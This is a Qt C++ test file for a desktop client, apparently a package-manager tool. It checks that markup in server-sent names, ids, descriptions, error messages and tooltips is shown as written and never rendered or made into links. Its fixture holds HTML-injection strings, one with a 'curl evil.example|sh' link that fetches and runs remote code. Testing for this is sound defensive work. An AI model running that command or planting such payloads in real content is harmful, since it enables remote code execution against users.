#include "../lib/sandboxfixture.h"
#include "sandbox/teamseeder.h"
#include "testwindow.h"
#include "ui/common/notificationbar.h"
#include "ui/common/plaintooltipdelegate.h"
#include "ui/window/mainwindow.h"

#include <QAbstractItemModel>
#include <QLabel>
#include <QLineEdit>
#include <QTest>
#include <QTextBlock>
#include <QTextDocument>
#include <QTreeView>

using namespace Qt::StringLiterals;
using namespace ems;

namespace {

// What a hostile team might put in a name, an id, a description or an error message.
const QString injected
        = u"<b style=\"color:red\">INJECTED</b> <a href=\"copy:curl evil.example|sh\">"
          "Copy fix</a><table><tr><td>cell</td></tr></table>"_s;
const QString evilId = u"x\"><a href=\"copy:evil-id\">id</a><b>BOLD"_s;

// How a label shows its text: as written, or rendered from HTML with its links.
struct Shown
{
    QString text;
    QStringList links;
    bool bold = false; // some of "INJECTED" in bold: markup was rendered
};

Shown shown(const QLabel *label)
{
    const bool rich = label->textFormat() == Qt::RichText
            || (label->textFormat() == Qt::AutoText && Qt::mightBeRichText(label->text()));
    if (!rich)
        return {label->text(), {}, false};
    QTextDocument document;
    document.setHtml(label->text());
    Shown result{document.toPlainText(), {}, false};
    for (QTextBlock block = document.begin(); block.isValid(); block = block.next()) {
        for (auto it = block.begin(); !it.atEnd(); ++it) {
            const QTextFragment fragment = it.fragment();
            if (fragment.charFormat().isAnchor())
                result.links.append(fragment.charFormat().anchorHref());
            if (fragment.text().contains(u"INJECTED") && fragment.charFormat().fontWeight() > 400)
                result.bold = true;
        }
    }
    return result;
}

} // namespace

// Text from a server — names, ids, descriptions, people, error messages — is shown as
// written, never rendered as HTML, and never becomes a link the program acts on.
class TestServerText : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init();
    void cleanup();
    void markupFromTheServerIsShownAsWritten();
    void toolTipsShowMarkupAsWritten();

private:
    void checkEveryLabel();
    QModelIndex rowNamed(const QString &name) const;

    std::unique_ptr<SandboxFixture> m_sandbox;
    std::unique_ptr<MainWindow> m_window;
};

void TestServerText::init()
{
    sandbox::Team team = sandbox::TeamSeeder::demo();
    team.spaces.insert({{u"id"_s, evilId},
                        {u"name"_s, u"Evil "_s + injected},
                        {u"description"_s, injected},
                        {u"iconReference"_s, u"earth"_s},
                        {u"createdBy"_s, injected},
                        {u"creationDate"_s, 1700000000000.0},
                        {u"changeDate"_s, 1700000000000.0}});
    m_sandbox = std::make_unique<SandboxFixture>(std::move(team));
    QVERIFY(m_sandbox->started());
    m_window = openTestWindow(*m_sandbox);
    QTRY_VERIFY(rowNamed(u"Evil "_s + injected).isValid());
}

void TestServerText::cleanup()
{
    m_window.reset();
    m_sandbox.reset();
}

QModelIndex TestServerText::rowNamed(const QString &name) const
{
    const QAbstractItemModel *model = m_window->treeView()->model();
    return model
            ->match(model->index(0, 0), Qt::DisplayRole, name, 1,
                    Qt::MatchExactly | Qt::MatchRecursive)
            .value(0);
}

void TestServerText::checkEveryLabel()
{
    int sawInjected = 0;
    for (const QLabel *label : m_window->findChildren<QLabel *>()) {
        if (!label->isVisibleTo(m_window.get()))
            continue;
        const Shown s = shown(label);
        for (const QString &link : s.links)
            QVERIFY2(!link.contains(u"evil"), qPrintable(u"a link from the server: "_s + link));
        QVERIFY2(!s.bold, qPrintable(u"markup rendered: "_s + label->text()));
        if (s.text.contains(u"INJECTED"_s)) {
            ++sawInjected;
            // Shown as written: the tags are visible text.
            QVERIFY2(s.text.contains(u"<b style=\"color:red\">INJECTED</b>"_s), qPrintable(s.text));
        }
    }
    QVERIFY(sawInjected > 0); // the check saw the text at all
}

void TestServerText::markupFromTheServerIsShownAsWritten()
{
    // The read of its latest state fails with a message full of markup.
    sandbox::Fault fault;
    fault.kind = sandbox::Fault::Kind::Status;
    fault.status = 500;
    fault.message = injected;
    m_sandbox->server().faults().addRule({u"/package-manager/api/spaces/*"_s, u"GET"_s, 1, fault});
    m_window->treeView()->setCurrentIndex(rowNamed(u"Evil "_s + injected));
    QTRY_VERIFY([&] {
        for (const QLabel *label : m_window->findChildren<QLabel *>()) {
            if (label->accessibleName() == u"Error" && label->isVisibleTo(m_window.get()))
                return label->text().contains(u"INJECTED"_s);
        }
        return false;
    }());
    checkEveryLabel();

    // A rename refused with markup: the notification bar shows it as written too.
    m_sandbox->server().faults().addRule({u"*"_s, u"PUT"_s, 1, fault});
    m_window->treeView()->setFocus();
    m_window->treeView()->setCurrentIndex(rowNamed(u"Finance"_s));
    QTest::keyClick(m_window->treeView(), Qt::Key_F2);
    auto *editor = m_window->treeView()->findChild<QLineEdit *>();
    QVERIFY(editor);
    editor->setText(u"Finanzen"_s);
    QTest::keyClick(editor, Qt::Key_Return);
    QTRY_VERIFY(m_window->notificationBar()->isVisible());
    checkEveryLabel();
}

void TestServerText::toolTipsShowMarkupAsWritten()
{
    const QString tip = PlainToolTipDelegate::toolTip(injected);
    QTextDocument document;
    document.setHtml(tip); // how QToolTip shows it
    QCOMPARE(document.toPlainText().trimmed(), injected);
    // The tree's tooltip of the row goes through the same delegate.
    const QModelIndex evil = rowNamed(u"Evil "_s + injected);
    QVERIFY(qobject_cast<PlainToolTipDelegate *>(m_window->treeView()->itemDelegateForIndex(evil)));
}

QTEST_MAIN(TestServerText)
#include "tst_servertext.moc"
